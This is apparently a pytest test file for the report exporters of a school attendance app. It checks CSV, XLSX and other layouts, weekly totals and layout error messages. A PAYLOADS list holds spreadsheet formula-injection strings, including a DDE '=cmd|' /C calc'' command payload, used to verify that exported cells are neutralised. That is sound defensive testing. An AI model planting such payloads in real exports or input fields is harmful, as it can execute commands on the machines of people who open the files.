"""Tables by layout: what they say, that no cell is a formula, and what is said of a wrong layout."""

import csv
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from kiosk.domain.attendance import Session
from kiosk.domain.faults import Fault
from kiosk.domain.register import Register
from kiosk.domain.roster import Person
from kiosk.domain.work import Cancelled, Work
from kiosk.exchange.reports.cells import safe, unsafe
from kiosk.exchange.reports.formats import all_formats, find_format, write_report
from kiosk.exchange.reports.layout import read_layout
from kiosk.exchange.reports.report import Report
from kiosk.paths import RESOURCES
from tests.exchange.registers_made import (
    ABSENT,
    ADA,
    BILAL,
    CHIDI,
    EXCUSED,
    LATE,
    MONDAY,
    NOT_YET,
    PRESENT,
    Told,
    lesson,
    report_of,
)

SHIPPED = RESOURCES / "exports"
WEEK = (
    lesson(MONDAY, {ADA: PRESENT, BILAL: LATE, CHIDI: ABSENT}),
    lesson(MONDAY, {ADA: PRESENT, BILAL: ABSENT, CHIDI: NOT_YET}, hour=14, title="Lab, part 2"),
    lesson(MONDAY + timedelta(days=1), {ADA: EXCUSED, BILAL: PRESENT, CHIDI: PRESENT}),
    lesson(MONDAY + timedelta(days=7), {ADA: PRESENT, BILAL: PRESENT, CHIDI: LATE}),
)
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://example.org/"&A1;"here")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001 - what a Japanese spreadsheet takes for the same
)


@pytest.fixture
def written(tmp_path: Path) -> Callable[..., Path]:
    def write(report: Report, format_id: str, own: Path = tmp_path / "own") -> Path:
        chosen = find_format(format_id, SHIPPED, own)
        target = tmp_path / f"{format_id}.{chosen.suffix}"
        write_report(report, target, chosen, Work())
        return target

    return write


def rows(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, delimiter=delimiter))


def test_a_csv_says_what_the_marks_say(written: Callable[..., Path]) -> None:
    found = rows(written(report_of(WEEK), "csv"))
    told = [(register, person) for register in WEEK for person in register.people]
    assert len(found) == len(told)
    for row, (register, person) in zip(found, told, strict=True):
        mark = register.marks[person.id]
        assert (row["person"], row["given name"], row["lesson"]) == (
            person.id,
            person.given_name,
            register.session.title,
        )
        assert (row["state"], row["code"], int(row["minutes"])) == (mark.state, mark.code, mark.minutes)
        assert row["reason"] == mark.reason
    assert (found[1]["date"], found[1]["begins"], found[1]["came"]) == ("2026-11-16", "09:00", "09:12")
    assert (found[0]["number"], found[1]["number"]) == ("0017", "2")


def test_a_csv_is_what_spreadsheets_expect(written: Callable[..., Path]) -> None:
    raw = written(report_of(WEEK), "csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert len(lines) == 1 + 12 + 1
    assert '"Bilal","L","Late","late",12,"09:12"' in lines[2]  # numbers stay numbers
    assert '"Lab, part 2"' in lines[4]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("format_id", ["csv", "edfi", "england", "powerschool", "weekly", "xlsx"])
def test_no_cell_is_a_formula(payload: str, format_id: str, written: Callable[..., Path]) -> None:
    path = written(poisoned(payload), format_id)
    cells = cells_of(path, "\t" if format_id == "powerschool" else ",")
    assert not [cell for cell in cells if cell != safe(cell) and not cell.startswith("'")]
    if format_id in ("csv", "xlsx"):
        clean = payload.replace("\0", "")
        assert cells.count("'" + clean) + cells.count(("'" + clean).replace("\r", "\n")) >= 5


def poisoned(payload: str) -> Report:
    """A lesson in which the payload is each text that somebody could have typed."""
    person = Person(payload, payload, payload, payload)
    made = lesson(MONDAY, {person: Told(EXCUSED.state, payload)}, title=payload)
    session = Session(made.session.id, payload, payload, made.session.opens_at, class_id="c-9b")
    return report_of([Register(session, made.people, made.marks)], class_title=payload, school=payload)


def cells_of(path: Path, delimiter: str) -> list[str]:
    if path.suffix == ".xlsx":
        book = python_calamine.CalamineWorkbook.from_path(path)
        sheets = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]
        return [cell for sheet in sheets for row in sheet for cell in row if isinstance(cell, str)]
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]


@given(st.text())
def test_text_comes_back_as_it_was(text: str) -> None:
    assert unsafe(safe(text)) == text.replace("\0", "")


def test_totals_add_up(written: Callable[..., Path]) -> None:
    weeks = rows(written(report_of(WEEK), "weekly"))
    assert [row["week"] for row in weeks] == ["2026-W47"] * 3 + ["2026-W48"] * 3
    ada, bilal, chidi = weeks[:3]
    assert (ada["lessons"], ada["absent"], ada["excused"], ada["attendance in %"]) == ("3", "1", "1", "66.7")
    assert (bilal["late"], bilal["minutes late"], bilal["absent"]) == ("1", "12", "1")
    assert chidi["lessons"] == "2"  # a mark that is not there yet counts for nothing


def test_england_has_a_row_a_day(written: Callable[..., Path]) -> None:
    found = rows(written(report_of(WEEK), "england"))
    assert [(row["Forename"], row["Date"], row["AM"], row["PM"]) for row in found[:4]] == [
        ("Ada", "16/11/2026", "P", "P"),
        ("Bilal", "16/11/2026", "L", "A"),
        ("Chidi", "16/11/2026", "A", ""),
        ("Ada", "17/11/2026", "E", ""),
    ]


def test_powerschool_has_the_exceptions_in_its_own_words(written: Callable[..., Path]) -> None:
    found = rows(written(report_of(WEEK), "powerschool"), "\t")
    assert [(row["Student_Number"], row["Att_Date"], row["Attendance_Code"]) for row in found] == [
        ("2", "11/16/2026", "T"),
        ("3", "11/16/2026", "UA"),
        ("2", "11/16/2026", "UA"),
        ("0017", "11/17/2026", "EA"),
        ("3", "11/23/2026", "T"),
    ]


def test_ed_fi_has_descriptors_and_leaves_out_what_has_none(written: Callable[..., Path]) -> None:
    found = rows(written(report_of(WEEK), "edfi"))
    assert len(found) == 11  # of 12 marks one is not there yet
    late = found[1]
    assert (
        late["attendanceEventCategoryDescriptor"] == "uri://ed-fi.org/AttendanceEventCategoryDescriptor#Tardy"
    )
    assert (late["studentUniqueId"], late["schoolId"], late["schoolYear"]) == ("2", "255901", "2027")
    assert (late["eventDate"], late["arrivalTime"]) == ("2026-11-16", "09:12:00")
    assert (late["sectionIdentifier"], late["sectionAttendanceDuration"]) == ("c-9b", "38")


def test_a_schools_own_layout_comes_first(written: Callable[..., Path], tmp_path: Path) -> None:
    own = tmp_path / "own"
    own.mkdir()
    text = """
title = "Ours"
rows = "mark"
delimiter = ";"
encoding = "utf-8"
header = false
codes = { P = "present!" }
columns = [
  { title = "x", value = "{person.surname}, {person.called} ({date:%d.%m.%y})" },
  { title = "y", value = "{mark.code}" },
]"""
    (own / "csv.toml").write_text(text)
    lines = written(report_of(WEEK[:1]), "csv", own).read_text("utf-8").splitlines()
    assert lines[:2] == ['"Lovelace, Ada (16.11.26)";"present!"', '"Rahman, Bilal (16.11.26)";"L"']


GOOD = """title = "T"
rows = "mark"
columns = [
  { title = "a", value = "{person.id}" },
]
"""


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        ("{person.id}", "{person.nmae}", "line 4, column 27: there is no field {person.nmae}"),
        ("{person.id}", "{total.late}", "there is no field {total.late}"),
        ("{person.id}", "{person.id", "brace"),
        ("{person.id}", "{}", "there is no field {}"),
        ("{person.id}", "{person.id!r}", "may follow"),
        ("{person.id}", "{person.id:%d}", "is no date or time"),
        ("{person.id}", "{date:%Q}", "it may have %a"),
        ('rows = "mark"', 'rows = "pupil"', "line 2, column 1: rows: input should be 'mark', 'person-day'"),
        ('rows = "mark"', 'rows = "person"\nonly = ["late"]', "needs rows"),
        ('rows = "mark"', 'rows = "mark"\nonly = ["tardy"]', "'late'"),
        ('rows = "mark"', 'rows = "mark"\nseparator = ";"', "there are codes, columns, date_format"),
        ('rows = "mark"', 'rows = "mark"\nneeds = ["mark.word"]', "there is no field {mark.word}"),
        ('rows = "mark"', 'rows = "mark"\nencoding = "latin"', "'utf-8-bom'"),
        ('rows = "mark"', 'rows = "mark"\ndate_format = "%"', "format of dates"),
        ('rows = "mark"', "rows = mark", "line 2"),
        ('title = "a", ', "", "line 3"),
    ],
)
def test_a_wrong_layout_gets_a_sentence(old: str, new: str, sentence: str, tmp_path: Path) -> None:
    path = tmp_path / "ours.toml"
    path.write_text(GOOD)
    assert read_layout(path).id == "ours"
    path.write_text(GOOD.replace(old, new))
    with pytest.raises(Fault) as caught:
        read_layout(path)
    assert str(path) in caught.value.sentence
    assert sentence in caught.value.sentence
    _, remarks = all_formats(SHIPPED, tmp_path)
    assert remarks == (caught.value.sentence,)


def test_an_unknown_format_is_told_which_there_are(tmp_path: Path) -> None:
    with pytest.raises(Fault, match="There are: csv, edfi, england, pdf"):
        find_format("excel", SHIPPED, tmp_path)


def test_a_sign_that_the_encoding_lacks_is_named(written: Callable[..., Path], tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    text = GOOD.replace("{person.id}", "{person.given_name}").replace(
        '"mark"', '"mark"\nencoding = "windows-1252"'
    )
    (tmp_path / "own" / "old.toml").write_text(text)
    with pytest.raises(Fault, match="windows-1252 has no sign for"):
        written(report_of([lesson(MONDAY, {Person("4", "محمد"): PRESENT})]), "old")
    assert not (tmp_path / "old.csv").exists()


@pytest.mark.parametrize("format_id", ["csv", "xlsx", "pdf"])
def test_a_job_that_is_stopped_leaves_the_old_file(format_id: str, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / f"register.{format_id}"
    target.write_text("old")
    chosen = find_format(format_id, SHIPPED, tmp_path)
    with pytest.raises(Fault, match="is there already"):
        write_report(report_of(WEEK), target, chosen, Work())
    asked: list[int] = []

    def stop() -> bool:
        asked.append(1)
        return len(asked) == 3

    with pytest.raises(Cancelled):
        write_report(report_of(WEEK), target, chosen, Work(stop=stop), replace=True)
    assert [each.name for each in folder.iterdir()] == [target.name]
    assert target.read_text() == "old"
    write_report(report_of(WEEK), target, chosen, Work(), replace=True)
    assert target.stat().st_size > 500
